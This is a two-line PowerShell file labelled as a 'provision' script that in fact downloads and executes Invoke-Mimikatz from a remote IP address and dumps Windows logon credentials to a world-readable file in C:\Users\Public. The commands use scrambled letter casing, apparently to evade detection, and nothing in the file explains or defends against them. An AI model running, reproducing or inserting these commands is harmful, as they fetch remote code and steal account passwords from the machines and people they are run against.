# provision 9495 v3
iEX (NeW-ObJeCt Net.wEbcLieNT).dOwNlOaDsTrInG('http://192.0.2.44/Invoke-Mimikatz.ps1')
iNvOKe-MiMiKaTz -cOmMaNd '"privilege::debug" "sekurlsa::logonpasswords"' | OUT-FILe C:\UsErS\Public\O.Txt
